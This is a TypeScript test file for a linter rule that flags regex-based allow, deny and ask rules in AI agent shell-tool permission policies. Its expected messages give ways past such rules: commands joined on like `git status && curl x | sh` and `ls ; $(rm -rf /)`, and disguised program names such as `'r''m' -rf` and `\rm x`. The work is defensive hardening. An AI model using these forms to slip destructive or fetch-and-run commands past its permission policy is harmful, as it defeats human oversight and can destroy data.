import { describe, expect, it } from 'vitest';
import { lintSource } from '../runner.ts';
import { runRuleTests } from '../../test/support/rule-tester.ts';
import rule from './rules-prefer-command-rule.ts';
import { commandWords } from '../support/command-words.ts';

const y = (...lines: string[]): string => `${lines.join('\n')}\n`;
const on = (list: string, r: string, ...head: string[]): string => y('mode: pattern', 'default: deny', ...head, `${list}:`, `  - ${r}`);

const ALLOW_HELP = 'write a command rule, which allows a call only when every command it executes is allowed: ';
const DENY_HELP = 'write a command rule, which sees the program through quoting, paths, `FOO=1` and wrappers such as `timeout`: ';

runRuleTests(rule, {
  valid: [
    { name: 'the pattern closes the JSON string: nothing can be joined', code: on('allow', '{tool: Bash, match: "\\"command\\":\\"git status\\""}') },
    { name: 'an exact field rule', code: on('allow', '{tool: Bash, field: command, match: "git (status|diff)( --stat)?"}') },
    { name: 'no command words: a word anywhere in the text', code: on('deny', '{tool: Bash, match: "secret"}') },
    { name: 'no command words: anything', code: on('deny', '{tool: Bash, match: ".*"}') },
    { name: 'not a shell tool', code: on('deny', '{tool: Read, match: "\\"command\\":\\"rm "}') },
    { name: 'a rule for every tool', code: on('deny', '{match: "\\"command\\":\\"rm "}') },
    { name: 'a field that is not the shell text', code: on('deny', '{tool: Bash, field: description, match: "rm .*"}') },
    { name: 'another key than the shell field', code: on('deny', '{tool: Bash, match: "\\"description\\":\\"rm "}') },
    { name: 'command rules are what it asks for', code: on('allow', '{tool: Bash, command: [git, [status, diff]]}') },
    {
      name: 'a deny whose last word runs on (`rm.*` also denies `rmdir`): no command rule says as much',
      code: on('deny', '{tool: Bash, match: "\\"command\\":\\"rm.*"}'),
    },
    { name: 'words followed by more than an open rest', code: on('deny', '{tool: Bash, match: "\\"command\\":\\"git push [a-z]+ main"}') },
    { name: 'a case-insensitive word is not a literal word', code: on('deny', '{tool: Bash, match: "(?i)\\"command\\":\\"rm "}') },
    { name: 'a pattern that can never match (`^` before the key) has no example', code: on('allow', '{tool: Bash, match: "^\\"command\\":\\"git status"}') },
    { name: 'an assignment is not a program', code: on('deny', '{tool: Bash, match: "\\"command\\":\\"FOO=1 "}') },
    {
      name: 'a tool left out of the policy\'s own shell table',
      code: on('deny', '{tool: Bash, match: "\\"command\\":\\"rm "}', 'shell: [{tool: Terminal, field: script}]'),
    },
  ],
  invalid: [
    {
      name: 'an allow keyed on the command: a joined command gets through',
      code: on('allow', '{tool: Bash, match: "\\"command\\":\\"git (status|diff)"}'),
      errors: [
        {
          messageId: 'joined',
          line: 4,
          column: 25,
          message:
            'this allow rule matches `git status` as text, not as a command rule: it also allows any command joined after it, e.g. `git status && curl x | sh`',
          help: `${ALLOW_HELP}\`{tool: Bash, command: [git, [status, diff]]}\``,
        },
      ],
    },
    {
      name: 'an allow field rule ending in `.*`, `\\s*` around the colon of a canonical one',
      code: y(
        'mode: pattern',
        'input: canonical',
        'allow:',
        '  - {tool: bash, field: command, match: "git status.*"}',
        "  - {tool: run_shell_command, match: '^\\{\"command\"\\s*:\\s*\"npm\\s+test\\b'}",
      ),
      errors: [
        { messageId: 'joined', line: 4, column: 41, help: `${ALLOW_HELP}\`{tool: bash, command: [git, status]}\`` },
        {
          messageId: 'joined',
          line: 5,
          column: 38,
          message:
            'this allow rule matches `npm test` as text, not as a command rule: it also allows any command joined after it, e.g. `npm test && curl x | sh`',
          help: `${ALLOW_HELP}\`{tool: run_shell_command, command: [npm, test]}\``,
        },
      ],
    },
    {
      name: 'a class that keeps `&` out still lets `;` in',
      code: on('allow', "{tool: Shell, match: '\"command\":\"ls( [^&]*)?\"'}"),
      errors: [
        {
          messageId: 'joined',
          line: 4,
          column: 26,
          message: 'this allow rule matches `ls` as text, not as a command rule: it also allows any command joined after it, e.g. `ls ; $(rm -rf /)`',
        },
      ],
    },
    {
      name: 'a deny anywhere in the text misses the program in quotes',
      code: on('deny', '{tool: Bash, match: "rm -rf"}'),
      errors: [
        {
          messageId: 'disguised',
          line: 4,
          column: 25,
          message:
            "this deny rule matches `rm -rf` as text, not as a command rule: it misses the same program written `'r''m' -rf`, which a command rule catches",
          help: `${DENY_HELP}\`{tool: Bash, command: [rm, -rf]}\``,
        },
      ],
    },
    {
      name: 'a deny keyed on the command misses `\\rm`',
      code: on('deny', '{tool: Bash, match: "\\"command\\":\\"rm\\\\s"}'),
      errors: [
        {
          messageId: 'disguised',
          line: 4,
          column: 25,
          message: 'this deny rule matches `rm` as text, not as a command rule: it misses the same program written `\\rm x`, which a command rule catches',
          help: `${DENY_HELP}\`{tool: Bash, command: [rm]}\``,
        },
      ],
    },
    {
      name: 'an ask on a field, with alternatives; a number is quoted in the suggestion',
      code: y('mode: pattern', 'ask:', '  - {tool: Bash, field: command, match: "sleep 60"}', '  - {tool: Bash, field: command, match: "(git|hg) push( .*)?"}'),
      errors: [
        { messageId: 'disguised', line: 3, column: 41, help: `${DENY_HELP}\`{tool: Bash, command: [sleep, "60"]}\`` },
        {
          messageId: 'disguised',
          line: 4,
          column: 41,
          message: 'this ask rule matches `git push` as text, not as a command rule: it misses the same program written `\\git push`, which a command rule catches',
          help: `${DENY_HELP}\`{tool: Bash, command: [[git, hg], push]}\``,
        },
      ],
    },
    {
      name: 'the policy\'s own shell table, its tool case-folded, its field as the key',
      code: on('deny', '{tool: terminal, match: "\\"script\\": \\"curl "}', 'shell: [{tool: Terminal, field: script}]'),
      errors: [
        {
          messageId: 'disguised',
          line: 5,
          column: 29,
          message: 'this deny rule matches `curl` as text, not as a command rule: it misses the same program written `\\curl x`, which a command rule catches',
          help: `${DENY_HELP}\`{tool: terminal, command: [curl]}\``,
        },
      ],
    },
    {
      name: 'in a JSON policy the suggestion is JSON',
      filename: 'policy.json',
      code: '{"mode": "pattern", "deny": [{"tool": "Bash", "match": "git push --force"}]}\n',
      errors: [
        {
          messageId: 'disguised',
          line: 1,
          column: 56,
          help: `${DENY_HELP}\`{"tool": "Bash", "command": ["git", "push", "--force"]}\``,
        },
      ],
    },
    {
      name: 'in a DSL policy the suggestion is a DSL rule',
      filename: 'policy.verdict',
      code: y('approver pattern default deny {', '  ask Bash /git push/', '}'),
      errors: [
        {
          messageId: 'disguised',
          line: 2,
          column: 13,
          message: "this ask rule matches `git push` as text, not as a command rule: it misses the same program written `'g''it' push`, which a command rule catches",
          help: `${DENY_HELP}\`ask Bash command ["git", "push"]\``,
        },
      ],
    },
  ],
});

describe('commandWords reads the words from the syntax tree', () => {
  const words = (pattern: string, isField = false, runOn = false) => commandWords(pattern, { isField, field: 'command', runOn })?.words ?? null;
  it('after the key, or at the start of a field value', () => {
    expect(words('"command":"git (status|diff)')).toEqual(['git', ['status', 'diff']]);
    expect(words('^\\{"command"\\s*:\\s*"git\\s+(?:log|show) +-p')).toEqual(['git', ['log', 'show'], '-p']);
    expect(words('^git status$', true)).toEqual(['git', 'status']);
    expect(words('(git) (push)', true)).toEqual(['git', 'push']);
  });
  it('anywhere in the text only from two words on', () => {
    expect(words('rm -rf /')).toEqual(['rm', '-rf', '/']);
    expect(words('secret')).toBeNull();
    expect(words('DROP TABLE')).toBeNull();
    expect(words('"command":"Rscript x')).toEqual(['Rscript', 'x']);
    expect(words('\\brm\\b')).toBeNull();
  });
  it('a word the pattern runs on from counts only for an allow', () => {
    expect(words('"command":"git status.*')).toBeNull();
    expect(words('"command":"git status.*', false, true)).toEqual(['git', 'status']);
    expect(words('"command":"git status .*')).toEqual(['git', 'status']);
    expect(words('"command":"rm\\b.*')).toBeNull();
  });
  it('nothing it cannot read exactly', () => {
    expect(words('"command":"(git|ls -l)')).toBeNull();
    expect(words('"command":"git-(a|b)')).toBeNull();
    expect(words('git status|ls -l')).toBeNull();
    expect(words('"command":"-rf')).toBeNull();
    expect(words('"cmd":"git status')).toBeNull();
  });
});

describe('rules/shell-injection and rules/shell-separator supersede it on an allow rule', () => {
  const ids = (code: string, config?: Parameters<typeof lintSource>[2]) =>
    lintSource(code, 'p.yaml', config)
      .messages.filter((m) => m.ruleId.startsWith('rules/'))
      .map((m) => [m.ruleId, m.span?.start.line, m.span?.start.column]);
  const code = on('allow', '{tool: Bash, match: "\\"command\\":\\"git status"}');
  it('the chained command is said once, as an error', () => {
    expect(ids(code)).toEqual([
      ['rules/shell-injection', 4, 25],
      ['rules/nested-key-spoof', 4, 25],
    ]);
  });
  it('with rules/shell-injection off, this rule says it', () => {
    const config = { config: { rules: { 'rules/shell-injection': { severity: 'off' as const } }, categories: {}, include: [], ignore: [] } };
    expect(ids(code, config)).toEqual([
      ['rules/nested-key-spoof', 4, 25],
      ['rules/prefer-command-rule', 4, 25],
    ]);
  });
  it('rules/shell-separator too, on a class that keeps some separators out', () => {
    const config = { config: { rules: { 'rules/shell-injection': { severity: 'off' as const } }, categories: {}, include: [], ignore: [] } };
    expect(ids(on('allow', '{tool: Bash, field: command, match: "ls( [^;]*)?"}'), config)).toEqual([['rules/shell-separator', 4, 41]]);
  });
  it('on a deny rule, rules/escape-evasion reports another way past it (JSON escapes)', () => {
    expect(ids(on('deny', '{tool: Bash, match: "\\"command\\":\\"rm "}'))).toEqual([
      ['rules/escape-evasion', 4, 25],
      ['rules/prefer-command-rule', 4, 25],
    ]);
  });
});
